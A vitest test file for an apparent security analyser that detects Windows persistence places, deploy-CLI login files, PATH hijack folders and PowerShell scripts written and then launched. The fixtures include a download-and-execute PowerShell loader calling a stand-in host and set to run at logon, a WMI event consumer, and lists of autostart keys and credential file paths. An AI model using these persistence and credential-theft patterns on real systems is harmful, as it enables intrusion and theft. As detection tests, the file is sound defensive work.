import { describe, expect, it } from 'vitest';
import { denoStdModule } from '../../src/analysis/code/javascript/deno-std.js';
import { prepareForGrammar } from '../../src/analysis/code/powershell/grammar-text.js';
import { pathFolderRefs, pathFolders } from '../../src/analysis/path-folders.js';
import { secretOf, writeClassOf } from '../../src/analysis/paths.js';
import { factsOf, ofKind } from '../support/code.js';

/**
 * Windows persistence places, PowerShell scripts written and then started by them, direnv PATH folders and
 * the login files of deploy CLIs (rules/persistence.md, rules/credential-access.md).
 */

describe('Windows places that outlive the session', () => {
  it.each([
    ['HKCU:/Software/Microsoft/Windows/CurrentVersion/RunOnceEx/x', 'autostart'],
    ['HKCU:/Software/Microsoft/Windows/CurrentVersion/Policies/Explorer/Run/x', 'autostart'],
    ['HKLM:/SOFTWARE/Microsoft/Windows NT/CurrentVersion/Winlogon/Userinit', 'autostart'],
    [
      'HKLM:/SOFTWARE/Microsoft/Windows NT/CurrentVersion/Image File Execution Options/sethc.exe',
      'autostart',
    ],
    ['HKCU:/Environment/UserInitMprLogonScript', 'autostart'],
    ['C:/Windows/System32/Tasks/Updater', 'autostart'],
    ['HKCU:/Software/Microsoft/Command Processor/AutoRun', 'shell-rc'],
    ['C:/Program Files/PowerShell/7/profile.ps1', 'shell-rc'],
    ['C:/Windows/System32/WindowsPowerShell/v1.0/Microsoft.PowerShell_profile.ps1', 'shell-rc'],
    ['~/Documents/PowerShell/Microsoft.VSCode_profile.ps1', 'shell-rc'],
  ])('%s is %s', (path, cls) => {
    expect(writeClassOf(path)?.cls).toBe(cls);
  });

  it.each(['scripts/profile.ps1', 'HKCU:/Environment/EDITOR', 'HKCU:/Software/Vendor/App/Settings'])(
    '%s is an ordinary place',
    (path) => {
      expect(writeClassOf(path)).toBeUndefined();
    },
  );
});

describe('CLI login files', () => {
  it.each([
    '~/.config/.wrangler/config/default.toml',
    '~/Library/Preferences/.wrangler/config/default.toml',
    '~/.fly/config.yml',
    '~/.local/share/com.vercel.cli/auth.json',
    '~/Library/Application Support/com.vercel.cli/auth.json',
    '~/.config/netlify/config.json',
    '~/.railway/config.json',
    '~/.config/doctl/config.yaml',
    '~/.terraform.d/credentials.tfrc.json',
    '~/.pulumi/credentials.json',
    '~/.cloudflared/cert.pem',
    '~/.databrickscfg',
    '~/.pgpass',
    '$HOME/.my.cnf',
    '~/.mylogin.cnf',
  ])('%s is a CLI login', (path) => {
    expect(secretOf(path)?.cls).toBe('cli-token');
  });

  it.each([
    '.vercel/project.json',
    'fly.toml',
    '.wrangler/state/v3/d1/db.sqlite',
    'netlify.toml',
    'docker/mysql/.my.cnf',
    'deploy/pgpass.example',
  ])("a project's own %s is not a login", (path) => {
    expect(secretOf(path)).toBeUndefined();
  });
});

describe('folders put first on PATH', () => {
  it.each([
    ['PATH_add tools/shims', ['tools/shims']],
    ['PATH_add bin scripts/dev\n', ['bin', 'scripts/dev']],
    ['path_add PATH "$PWD/.bin"', ['.bin']],
    ['export PATH="$PWD/.tools/bin:$PATH"', ['.tools/bin']],
    ['PATH=./node_modules/.bin:${PATH}', ['node_modules/.bin']],
    ['PATH_add "$(expand_path ../shared/bin)"', []],
    ['export PATH="$PATH:$PWD/late"', []],
    ['export PATH="$HOME/.local/bin:$PATH"', []],
    ['PATH_add /opt/tools/bin', []],
  ])('%s', (text, folders) => {
    expect(pathFolders(text)).toEqual(folders);
  });

  it('each everyday command of a folder is a candidate, anchored at the folder', () => {
    const refs = pathFolderRefs('# env\nPATH_add tools/shims\n');
    expect(refs.map((r) => r.target)).toContain('tools/shims/git');
    expect(refs.map((r) => r.target)).not.toContain('tools/shims/dev');
    expect(refs.every((r) => r.certainty === 'candidate' && r.start === 15)).toBe(true);
  });
});

describe("Deno's standard library", () => {
  it.each([
    ['@std/path', 'path'],
    ['jsr:@std/path@^1.0.8', 'path'],
    ['jsr:@std/path@1/join', 'path'],
    ['https://deno.land/std@0.224.0/path/mod.ts', 'path'],
    ['@std/toml', 'JSON'],
    ['jsr:@std/yaml', 'JSON'],
    ['@std/http', undefined],
    ['@stdlib/path', undefined],
  ])('%s reads as %s', (spec, mod) => {
    expect(denoStdModule(spec)).toBe(mod);
  });
});

describe('PowerShell strings with a # after a variable or an escape', () => {
  it('the # is hidden from the grammar with the same length, and read back as #', async () => {
    const code = 'Add-Content -Path $p -Value ". `"$loader`"  # marker"\n$x = 1\n';
    const out = prepareForGrammar(code);
    expect(out.length).toBe(code.length);
    expect(out).not.toContain('# marker');
    const r = await factsOf('powershell', `$p = $PROFILE\n$loader = 'C:\\t\\l.ps1'\n${code}`);
    const w = ofKind(r, 'write')[0]!;
    expect(w.content?.text).toBe('. "C:\\t\\l.ps1"  # marker');
    expect(r.units[0]!.parse).toBe('ok');
  });

  it('comments, single-quoted strings and here-strings are left alone', () => {
    const code = '# a # comment\n$a = \'x # y\'\n$b = @"\n$v # kept\n"@\n<# block # #>\n';
    expect(prepareForGrammar(code)).toBe(code);
  });
});

describe('scripts a PowerShell unit writes and then starts', () => {
  const loader = [
    "$f = Join-Path $env:LOCALAPPDATA 'x\\run.ps1'",
    "@'",
    '$t = (New-Object Net.WebClient).DownloadString("https://cdn.example-upd.net/a.ps1")',
    '& ([scriptblock]::Create($t))',
    "'@ | Set-Content -Path $f",
  ];

  it('a logon task naming the file runs its code: the download is run, the task content says so', async () => {
    const r = await factsOf(
      'powershell',
      [...loader, 'schtasks /create /tn U /sc onlogon /tr "pwsh -File $f"'].join('\n'),
    );
    expect(ofKind(r, 'execute').some((e) => e.code.taints.includes('download'))).toBe(true);
    const task = ofKind(r, 'write').find((w) => w.cls === 'autostart')!;
    expect(task.content?.text).toContain('DownloadString');
  });

  it('a file written and never started is only data', async () => {
    const r = await factsOf('powershell', loader.join('\n'));
    expect(ofKind(r, 'execute')).toEqual([]);
  });

  it('a scheduled job and a WMI consumer are autostart entries', async () => {
    const r = await factsOf(
      'powershell',
      [
        'Register-ScheduledJob -Name J -ScriptBlock { Get-Date } -Trigger (New-JobTrigger -AtStartup)',
        "Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{ Name = 'c'; CommandLineTemplate = 'cmd /c x.bat' }",
        "Set-WmiInstance -Class Win32_Environment -Arguments @{ Name = 'A'; VariableValue = 'b' }",
      ].join('\n'),
    );
    expect(ofKind(r, 'write').map((w) => `${w.cls} ${w.target.text}`)).toEqual([
      'autostart scheduled job J',
      'autostart WMI event consumer c',
    ]);
  });
});
